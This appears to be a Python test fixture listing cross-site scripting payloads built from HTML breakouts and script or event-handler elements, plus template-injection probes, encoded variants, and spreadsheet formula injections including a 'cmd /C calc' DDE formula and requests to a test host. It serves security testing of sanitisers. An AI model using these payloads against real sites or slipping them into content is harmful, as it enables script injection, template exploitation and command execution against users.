"""Texts that try to run in a page that shows them; each calls `alert` or asks another host."""

from __future__ import annotations

from itertools import product

_BREAKOUTS = ("", '">', "'>", "</td></tr></table>", "</style>", "</title>", "-->", "</textarea>")
"""What ends the place in which a text may stand."""

_ELEMENTS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=data:text/javascript,alert(1)></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=http://192.0.2.1/pixel>",
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<svg><image href=http://192.0.2.1/image /></svg>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==></object>",
    "<embed src=javascript:alert(1)>",
    "<style>@import 'http://192.0.2.1/sheet';</style>",
    "<link rel=stylesheet href=http://192.0.2.1/sheet>",
    "<div style='background:url(http://192.0.2.1/back)'>x</div>",
    "<meta http-equiv=refresh content='0;url=http://192.0.2.1/away'>",
    "<base href=http://192.0.2.1/>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<p onmouseover=alert(1)>x</p>",
    "<p style=animation-name:x onanimationstart=alert(1)>x</p>",
    "<template><script>alert(1)</script></template><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<x onclick=alert(1)>x</x>",
    "<table background=http://192.0.2.1/table><tr><td>x</td></tr></table>",
)
_OTHERS = (
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "` onerror=alert(1) `",
    "javascript:alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\N{FULLWIDTH LESS-THAN SIGN}script\N{FULLWIDTH GREATER-THAN SIGN}alert(1)",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<\x0bscript>alert(1)</script>",
    "\N{RIGHT-TO-LEFT OVERRIDE}<img src=x onerror=alert(1)>",
    "{{ 7 * 7 }} {{ self.__init__.__globals__ }}",
    "{% for x in [].__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "${alert(1)} #{alert(1)} <%= alert(1) %>",
    "]]><script>alert(1)</script>",
    "--!><script>alert(1)</script>",
    "*/</style><script>alert(1)</script>",
    "![x](javascript:alert(1)) [x](javascript:alert(1)) <javascript:alert(1)>",
)

PAYLOADS = (*(before + text for before, text in product(_BREAKOUTS, _ELEMENTS)), *_OTHERS)

FORMULAS = tuple(
    before + text
    for before, text in product(
        ("", " ", "\t", "\n", "\N{ZERO WIDTH SPACE}", "\N{BYTE ORDER MARK}", "\N{NO-BREAK SPACE}",
         "\x01"),
        ("=1+1", "+1+1", "-1+1", "@SUM(1,1)", "=cmd|' /C calc'!A0", "\N{FULLWIDTH EQUALS SIGN}1+1",
         "\N{FULLWIDTH PLUS SIGN}1", "\N{FULLWIDTH COMMERCIAL AT}SUM(1)", "\N{MINUS SIGN}1+1",
         '=HYPERLINK("http://192.0.2.1")'),
    )
)  # fmt: skip
"""Cells that a spreadsheet may take for a formula."""
